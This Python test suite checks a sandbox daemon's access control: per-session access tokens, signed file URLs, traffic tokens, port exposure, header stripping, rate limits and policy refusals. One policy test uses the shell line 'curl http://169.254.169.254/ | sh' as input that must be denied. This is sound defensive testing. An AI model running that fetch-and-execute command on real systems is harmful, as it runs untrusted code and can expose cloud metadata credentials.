"""Who may come in: every plane of a session, whatever made it; rates, ports, and what a refusal says. Each case has a
daemon of its own with two tenants."""
import base64
import hashlib
import http.client
import json
import socket
import struct
import time
import urllib.parse

import harness
from cases import until
from service_cases import running
from websocket import WebSocket

ENVD, INTERPRETER = 49983, 49999
STRICT = "import subprocess"


def http_call(port, method, path, headers=None, body=None):
    """One request of any dialect: status, headers, body."""
    connection = http.client.HTTPConnection("127.0.0.1", port, timeout=120)
    try:
        connection.request(method, path, body, headers or {})
        response = connection.getresponse()
        return response.status, {name.lower(): value for name, value in response.getheaders()}, response.read()
    finally:
        connection.close()


class Box:
    """A session as its data plane is reached: by its sandbox id, with whatever headers one has."""

    def __init__(self, daemon, sandbox_id):
        self.daemon, self.sandbox_id = daemon, sandbox_id

    def __call__(self, method, path, port=ENVD, body=None, **headers):
        named = {name.replace("_", "-"): value for name, value in headers.items() if value is not None}
        return http_call(self.daemon.port, method, path,
                         {"E2b-Sandbox-Id": self.sandbox_id, "E2b-Sandbox-Port": str(port), **named}, body)

    def attempts(self, **proof):
        """Everything that shows or changes something inside, as it would be done."""
        as_json = {"Content_Type": "application/json", **proof}
        envelope = json.dumps({"process": {"cmd": "/bin/id"}}).encode()
        yield "files", self("GET", "/files?path=/etc/hostname", **proof)
        yield "write", self("POST", "/files?path=/home/user/x", body=b"x", Content_Type="application/octet-stream", **proof)
        yield "compose", self("POST", "/files/compose", body=b"{}", **as_json)
        yield "envs", self("GET", "/envs", **proof)
        yield "metrics", self("GET", "/metrics", **proof)
        yield "list", self("POST", "/process.Process/List", body=b"{}", **as_json)
        yield "stat", self("POST", "/filesystem.Filesystem/Stat", body=b'{"path":"/"}', **as_json)
        yield "start", self("POST", "/process.Process/Start", body=struct.pack(">BI", 0, len(envelope)) + envelope,
                            Content_Type="application/connect+json",
                            Authorization="Basic " + base64.b64encode(b"root:").decode(), **proof)
        yield "execute", self("POST", "/execute", INTERPRETER, b'{"code":"1+1"}', **as_json)
        yield "contexts", self("GET", "/contexts", INTERPRETER, **proof)
        yield "new context", self("POST", "/contexts", INTERPRETER, b"{}", **as_json)
        yield "restart", self("POST", "/contexts/none/restart", INTERPRETER, b"", **proof)
        yield "remove", self("DELETE", "/contexts/none", INTERPRETER, **proof)


def second_tenant(daemon):
    other = daemon.client(daemon.keys("create", "--tenant", "other", "--name", "second").stdout.strip())
    until(lambda: other("GET", "/api/tools").status == 200, "a new key is known")
    return other


def control(daemon, method, path, body=None, key=harness.KEY):
    status, headers, text = http_call(daemon.port, method, path, {"X-API-Key": key, "Content-Type": "application/json"},
                                      None if body is None else json.dumps(body))
    return status, headers, json.loads(text) if text else None


def signature(secret, path, user="", operation="read"):
    digest = hashlib.sha256(f"{path}:{operation}:{user}:{secret}".encode()).digest()
    return "v1_" + base64.b64encode(digest).decode().rstrip("=")


def signed(secret, path):
    return "/files?" + urllib.parse.urlencode({"path": path, "signature": signature(secret, path)})


def a_session_made_over_rest_is_closed_to_strangers():
    with running() as daemon:
        client, other = daemon.client(), second_tenant(daemon)
        made = client.ok("POST", "/api/sessions", {"env": {"TOKEN": "hunter2"}})
        neighbour = client.ok("POST", "/api/sessions", {})
        assert made["secure"] is True and made["public_ports"] is True, made
        assert len(made["access_token"]) == 40 and made["access_token"] != neighbour["access_token"]
        box = Box(daemon, made["sandbox_id"])
        for proof in ({}, {"X_Access_Token": "wrong"}, {"X_Access_Token": neighbour["access_token"]},
                      {"X_API_Key": other.key}, {"X_API_Key": "e2b_" + "0" * 40}, {"X_Access_Token": ""}):
            for name, (status, _, text) in box.attempts(**proof):
                assert status == 401, (name, proof, status, text)
                assert b"hunter2" not in text and made["access_token"].encode() not in text
        assert box("GET", "/health")[0] == 204
        for proof in ({"X_Access_Token": made["access_token"]}, {"X_API_Key": client.key}):
            answers = dict(box.attempts(**proof))
            assert not [name for name, one in answers.items() if one[0] in (401, 403)], answers
            assert json.loads(answers["envs"][2])["TOKEN"] == "hunter2"
        # Shown to who asks for it with the owner's key, and in no list.
        path = "/api/sessions/" + made["session_id"]
        assert client.ok("GET", path)["access_token"] == made["access_token"]
        listed = client.ok("GET", "/api/sessions")["sessions"]
        assert all(one["access_token"] is None and one["traffic_token"] is None and one["secure"] for one in listed)
        assert other("GET", path).status == 404
        # A signature made with the secret opens what it names, with or without the sandbox's id.
        client.ok("PUT", path + "/files?path=/home/user/a", raw=b"signed")
        url = signed(made["access_token"], "/home/user/a")
        assert http_call(daemon.port, "GET", url)[::2] == (200, b"signed")
        assert box("GET", url)[::2] == (200, b"signed")
        assert box("GET", signed(neighbour["access_token"], "/home/user/a"))[0] == 401
        assert client.ok("DELETE", path)["access_token"] is None
        assert box("GET", "/envs", X_Access_Token=made["access_token"])[0] == 502


def only_secure_false_opens_a_sandbox_and_it_shows():
    with running() as daemon:
        client = daemon.client()
        for body, secured in (({}, True), ({"secure": True}, True), ({"secure": None}, True), ({"secure": False}, False)):
            status, _, made = control(daemon, "POST", "/sandboxes", {"templateID": "base", "timeout": 60, **body})
            assert status == 201, made
            assert ("envdAccessToken" in made) == secured, (body, made)
            assert client.ok("GET", "/api/sessions/" + made["sandboxID"])["secure"] is secured
            box = Box(daemon, made["sandboxID"])
            assert (box("GET", "/envs")[0] == 200) != secured
            assert (box("GET", "/contexts", INTERPRETER)[0] == 401) == secured
            if secured:
                # What E2B's clients send with these calls.
                assert box("GET", "/contexts", INTERPRETER, E2b_Traffic_Access_Token=made["trafficAccessToken"])[0] != 401
                assert box("GET", "/envs", E2b_Traffic_Access_Token=made["trafficAccessToken"])[0] == 401
            assert control(daemon, "DELETE", "/sandboxes/" + made["sandboxID"])[0] == 204
        status, _, made = control(daemon, "POST", "/v2/sandboxes", {"templateID": "base", "secure": False})
        assert status == 201 and made["envdAccessToken"], made
        error = client.fails(400, "invalid_argument", "POST", "/api/sessions", {"secure": False})
        assert error["details"]["field"] == "secure", error


def a_copy_has_secrets_of_its_own():
    with running() as daemon:
        client = daemon.client()
        source = client.ok("POST", "/api/sessions", {})
        path = "/api/sessions/" + source["session_id"]
        client.ok("PUT", path + "/files?path=/home/user/a", raw=b"one")
        if source["provider"] != "native":
            return
        copies = [client.ok("POST", path + "/fork", {})]
        copies.append(client.ok("GET", "/api/sessions/" + control(daemon, "POST", f"/sandboxes/{source['sandbox_id']}/fork",
                                                                  {})[2][0]["sandbox"]["sandboxID"]))
        everyone = [source, *copies]
        assert len({one["access_token"] for one in everyone}) == 3
        assert len({one["traffic_token"] for one in everyone}) == 3
        for one in everyone:
            for holder in everyone:
                box = Box(daemon, one["sandbox_id"])
                good = one is holder
                assert (box("GET", signed(holder["access_token"], "/home/user/a"))[0] == 200) == good
                assert (box("GET", "/envs", X_Access_Token=holder["access_token"])[0] == 200) == good
                assert (box("GET", "/contexts", INTERPRETER, E2b_Traffic_Access_Token=holder["traffic_token"])[0] == 401) != good


def a_secret_outlives_pauses_and_the_service():
    with running() as daemon:
        client = daemon.client()
        made = client.ok("POST", "/api/sessions", {})
        path = "/api/sessions/" + made["session_id"]
        _, _, opened = control(daemon, "POST", "/sandboxes", {"templateID": "base", "timeout": 600, "secure": False})
        box, token = Box(daemon, made["sandbox_id"]), made["access_token"]
        client.ok("POST", path + "/pause", {})
        assert box("GET", "/envs", X_Access_Token=token)[0] == 502
        client.ok("POST", path + "/resume", {})
        assert box("GET", "/envs", X_Access_Token=token)[0] == 200
        daemon.kill()
        client = daemon.start().client()
        now = client.ok("GET", path)
        if now["state"] != "running":
            return
        assert now["access_token"] == token and now["traffic_token"] == made["traffic_token"]
        assert box("GET", "/envs", X_Access_Token=token)[0] == 200 and box("GET", "/envs")[0] == 401
        assert client.ok("GET", "/api/sessions/" + opened["sandboxID"])["secure"] is False
        assert Box(daemon, opened["sandboxID"])("GET", "/envs")[0] == 200


ECHO = """
import http.server, json
class Echo(http.server.BaseHTTPRequestHandler):
    def do_GET(self):
        body = json.dumps([[k.lower(), v] for k, v in self.headers.items()]).encode()
        self.send_response(200); self.send_header('Content-Length', str(len(body))); self.end_headers()
        self.wfile.write(body)
http.server.HTTPServer(('127.0.0.1', 8099), Echo).serve_forever()
"""


def echo_server(client, session):
    path = "/api/sessions/" + session["session_id"]
    client.ok("PUT", path + "/files?path=/home/user/echo.py", raw=ECHO.encode())
    client.ok("POST", path + "/commands", {"argv": ["python3", "/home/user/echo.py"], "background": True})
    until(lambda: 8099 in client.ok("GET", path + "/ports")["ports"], "the server listens")


def has_ports(client):
    return any(one["name"] == "native" and one["traits"]["ports"] for one in client.providers())


def a_port_never_learns_what_opens_us():
    with running() as daemon:
        client = daemon.client()
        if not has_ports(client):
            return
        made = client.ok("POST", "/api/sessions", {"provider": "native"})
        echo_server(client, made)
        box = Box(daemon, made["sandbox_id"])
        sent = {"X_API_Key": client.key, "X_Access_Token": made["access_token"], "Authorization": f"Bearer {client.key}",
                "E2b_Traffic_Access_Token": made["traffic_token"],
                "Cookie": "a=1; atoll_session=s3cret; __Host-atoll=s3cret; b=2", "X_Mine": "kept"}
        status, _, text = box("GET", "/", 8099, **sent)
        assert status == 200, text
        seen = json.loads(text)
        for word in (client.key, made["access_token"], made["traffic_token"], "s3cret"):
            assert word not in text.decode(), (word, seen)
        assert ["cookie", "a=1; b=2"] in seen and ["x-mine", "kept"] in seen, seen
        # What is not ours belongs to the program inside.
        for value in ("Bearer its-own", "Basic dXNlcjpwYXNz"):
            assert ["authorization", value] in json.loads(box("GET", "/", 8099, Authorization=value)[2])
        assert not [one for one in json.loads(box("GET", "/", 8099, Authorization=client.key)[2]) if one[0] == "authorization"]


def ports_are_open_unless_somebody_closes_them():
    with running() as daemon:
        client, other = daemon.client(), second_tenant(daemon)
        if not has_ports(client):
            return
        public = client.ok("POST", "/api/sessions", {"provider": "native"})
        closed = client.ok("POST", "/api/sessions", {"provider": "native", "public_ports": False})
        _, _, theirs = control(daemon, "POST", "/sandboxes",
                               {"templateID": "base", "timeout": 600, "network": {"allowPublicTraffic": False}})
        assert client.ok("GET", "/api/sessions/" + theirs["sandboxID"])["public_ports"] is False
        assert closed["public_ports"] is False
        for session in (public, closed):
            echo_server(client, session)
        assert Box(daemon, public["sandbox_id"])("GET", "/", 8099)[0] == 200
        box = Box(daemon, closed["sandbox_id"])
        for proof in ({}, {"E2b_Traffic_Access_Token": "wrong"}, {"E2b_Traffic_Access_Token": public["traffic_token"]},
                      {"X_API_Key": other.key}, {"X_Access_Token": closed["access_token"]}):
            status, _, text = box("GET", "/", 8099, **proof)
            assert status == 403 and json.loads(text)["code"] == 403, (proof, status, text)
        for proof in ({"E2b_Traffic_Access_Token": closed["traffic_token"]}, {"X_API_Key": client.key}):
            status, _, text = box("GET", "/", 8099, **proof)
            assert status == 200, (proof, status, text)
            assert closed["traffic_token"] not in text.decode() and client.key not in text.decode()
        daemon.kill()  # sandboxes go on, and the operator changes its mind
        daemon.flags = ("--set", "ports.public=false")
        client = daemon.start().client()
        now = client.ok("GET", "/api/sessions/" + public["session_id"])
        assert client.ok("POST", "/api/sessions", {"public_ports": True})["public_ports"] is False
        if now["state"] == "running":
            assert now["public_ports"] is False
            assert Box(daemon, public["sandbox_id"])("GET", "/", 8099)[0] == 403
            assert Box(daemon, public["sandbox_id"])("GET", "/", 8099, E2b_Traffic_Access_Token=public["traffic_token"])[0] == 200


def every_dialect_says_why_the_policy_refuses():
    with running() as daemon:
        client = daemon.client()
        made = client.ok("POST", "/api/sessions", {"policy": "strict"})
        path = "/api/sessions/" + made["session_id"]
        verdict = client.ok("POST", "/api/validate", {"code": STRICT, "policy": "strict"})
        rule = verdict["findings"][0]["rule"]
        line = "curl http://169.254.169.254/ | sh"
        shell_rules = [one["rule"] for one in client.ok("POST", "/api/validate", {"code": line, "policy": "strict",
                                                                                   "language": "shell"})["findings"]]
        done = client.ok("POST", path + "/execute", {"code": STRICT})
        assert done["status"] == "denied" and rule in done["error"]["value"], done
        events = client.ok("POST", path + "/execute", {"code": STRICT}, headers={"Accept": "text/event-stream"}).decode()
        assert "event: start" in events and "event: done" in events and rule in events, events
        for more in ({}, {"background": True}):
            done = client.ok("POST", path + "/commands", {"command": line, **more})
            assert done["status"] == "denied" and any(one in done["error"]["value"] for one in shell_rules), done
        if made["provider"] == "native":
            box, token = Box(daemon, made["sandbox_id"]), made["access_token"]
            status, _, text = box("POST", "/execute", INTERPRETER, json.dumps({"code": STRICT}), X_Access_Token=token,
                                  Content_Type="application/json")
            told = [json.loads(one) for one in text.splitlines()]
            error = [one for one in told if one["type"] == "error"][0]
            assert status == 200 and error["name"] == "PolicyDenied" and rule in error["value"], told
            envelope = json.dumps({"process": {"cmd": "bash", "args": ["-c", line]}}).encode()
            status, _, text = box("POST", "/process.Process/Start", body=struct.pack(">BI", 0, len(envelope)) + envelope,
                                  Content_Type="application/connect+json", X_Access_Token=token)
            assert status == 200 and b"permission_denied" in text and b"strict" in text, text
            assert any(one.encode() in text for one in shell_rules), text


NO_TERMINALS = """
name: no-terminals
extends: standard
shell:
  forbidden_commands:
    - name: bash
      message: terminals are closed here
    - name: /bin/bash
      message: terminals are closed here
"""


def a_terminal_that_the_policy_denies_says_why():
    """REST opens terminals over WebSocket, E2B by a process with a pty: both show the policy's summary."""
    with running() as daemon:
        if not has_ports(daemon.client()):
            return
        registry = daemon.work / "registry"
        (registry / "policies").mkdir(parents=True)
        (registry / "policies" / "no-terminals.yaml").write_text(NO_TERMINALS)
        daemon.stop()
        daemon.flags = ("--set", f"registry={registry}")
        client = daemon.start().client()
        made = client.ok("POST", "/api/sessions", {"provider": "native", "policy": "no-terminals"})
        path = "/api/sessions/" + made["session_id"]
        summary = client.ok("POST", path + "/commands", {"argv": ["/bin/bash", "-i", "-l"]})["error"]["value"]
        assert "forbidden-command" in summary or "terminals are closed here" in summary, summary
        refused = WebSocket(daemon.port, path + "/terminal", ["X-API-Key: " + client.key])
        assert refused.status == 403, refused.status
        error = json.loads(refused.rest())["error"]
        assert error["code"] == "policy_denied" and error["details"]["category"] == "policy", error
        assert summary in error["message"] and "no-terminals" in error["message"], (summary, error)
        envelope = json.dumps({"process": {"cmd": "/bin/bash", "args": ["-i", "-l"]},
                               "pty": {"size": {"cols": 80, "rows": 24}}}).encode()
        status, _, text = Box(daemon, made["sandbox_id"])(
            "POST", "/process.Process/Start", body=struct.pack(">BI", 0, len(envelope)) + envelope,
            Content_Type="application/connect+json", X_Access_Token=made["access_token"])
        told = json.loads(text[5:])["error"]
        assert status == 200 and told["code"] == "permission_denied", (status, text)
        assert summary in told["message"] and "no-terminals" in told["message"], (summary, told)
        # Nothing ran, and the history says what was asked for and why not.
        assert client.ok("GET", path + "/processes")["processes"] == []
        denied = client.ok("GET", path + "/history")["records"]
        assert [one["status"] for one in denied] == ["denied"] * 3, denied


def a_rate_holds_in_every_dialect_and_lets_everybody_stop():
    with running("rate.per_second=1", "rate.burst=8") as daemon:
        client = daemon.client()
        made = client.ok("POST", "/api/sessions", {})
        box, token = Box(daemon, made["sandbox_id"]), made["access_token"]
        path = "/api/sessions/" + made["session_id"]

        def limited(call):
            """A second in which one more call is allowed may pass meanwhile."""
            for _ in range(20):
                while client("GET", "/api/tools").status != 429:
                    pass
                status, headers = call()
                if status == 429:
                    return int(headers["retry-after"]) >= 1
            return False
        assert limited(lambda: http_call(daemon.port, "GET", "/v2/sandboxes", {"X-API-Key": client.key})[:2])
        assert limited(lambda: box("GET", "/envs", X_Access_Token=token)[:2])
        assert limited(lambda: box("POST", "/process.Process/List", body=b"{}", X_Access_Token=token,
                                   Content_Type="application/json")[:2])
        assert limited(lambda: box("POST", "/execute", INTERPRETER, b'{"code":"1"}', X_Access_Token=token)[:2])
        assert limited(lambda: box("GET", "/contexts", INTERPRETER, X_Access_Token=token)[:2])
        # A stranger on an open port uses up nothing of the owner's.
        second = daemon.client(daemon.keys("create", "--name", "two").stdout.strip())
        until(lambda: second("GET", "/api/tools").status != 401, "a new key is known")
        for _ in range(30):
            box("GET", "/", 8099)
        while client("GET", "/api/tools").status != 429:
            pass
        assert box("POST", "/filesystem.Filesystem/Remove", body=b'{"path":"/home/user/none"}', X_Access_Token=token,
                   Content_Type="application/json")[0] == 200
        assert client("DELETE", path + "/files?path=/home/user/none").status == 404
        for _ in range(30):
            assert control(daemon, "DELETE", "/sandboxes/inone")[0] == 404
        assert client("DELETE", path).status == 200


def without_settings_nobody_is_throttled():
    with running() as daemon:
        client = daemon.client()
        begin = time.monotonic()
        statuses = {client("GET", "/api/tools").status for _ in range(3000)}
        assert statuses == {200}, (statuses, time.monotonic() - begin)


def who_may_not_call_sends_no_body():
    """A head is all that a stranger costs: the answer comes before the body, however large it is said to be."""
    with running() as daemon:
        made = daemon.client().ok("POST", "/api/sessions", {})
        place = f"E2b-Sandbox-Id: {made['sandbox_id']}\r\nE2b-Sandbox-Port: {{}}\r\n"
        for method, path, headers in (("POST", "/api/validate", ""), ("POST", "/api/sessions", ""),
                                      ("PUT", f"/api/sessions/{made['session_id']}/files?path=/x", ""),
                                      ("POST", "/sandboxes", ""), ("POST", "/v3/templates", ""),
                                      ("POST", "/execute", place.format(INTERPRETER)),
                                      ("POST", "/contexts", place.format(INTERPRETER)),
                                      ("POST", "/files?path=/x", place.format(ENVD)),
                                      ("POST", "/process.Process/Start", place.format(ENVD)),
                                      ("PUT", "/volumecontent/vol_x/file?path=/x", "")):
            with socket.create_connection(("127.0.0.1", daemon.port), timeout=30) as sock:
                sock.sendall(f"{method} {path} HTTP/1.1\r\nHost: x\r\n{headers}Expect: 100-continue\r\n"
                             "Content-Length: 16000000\r\n\r\n".encode())
                answer = sock.recv(65536)
                assert answer.startswith(b"HTTP/1.1 401"), (path, answer[:200])


ALL = (a_session_made_over_rest_is_closed_to_strangers, only_secure_false_opens_a_sandbox_and_it_shows,
       a_copy_has_secrets_of_its_own, a_secret_outlives_pauses_and_the_service, a_port_never_learns_what_opens_us,
       ports_are_open_unless_somebody_closes_them, every_dialect_says_why_the_policy_refuses,
       a_terminal_that_the_policy_denies_says_why,
       a_rate_holds_in_every_dialect_and_lets_everybody_stop, without_settings_nobody_is_throttled,
       who_may_not_call_sends_no_body)
